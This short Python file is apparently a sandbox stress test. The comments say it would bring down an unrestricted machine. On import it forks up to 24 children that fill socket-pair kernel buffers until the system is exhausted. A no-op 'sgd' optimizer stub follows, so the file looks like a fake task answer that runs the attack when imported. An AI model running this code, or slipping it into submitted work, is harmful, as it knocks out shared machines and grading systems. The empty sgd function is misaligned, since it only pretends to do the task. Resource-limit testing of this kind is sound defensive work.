"""Children fill the buffers of sockets, which are in no process's memory."""
# long: it is ended by a limit of time
# stock: skip, it would take the machine with it
import os
import socket
import time

for _ in range(24):
    try:
        if os.fork():
            continue
    except OSError:
        break
    pairs = []
    try:
        while True:
            pairs.append(socket.socketpair())
            for each in pairs[-1]:
                each.setblocking(False)
                try:
                    while True:
                        each.send(bytes(1 << 16))
                except BlockingIOError:
                    pass
    except OSError:
        time.sleep(5)
        os._exit(0)
time.sleep(2)

def sgd(w, dw, config=None):
    return w, {}
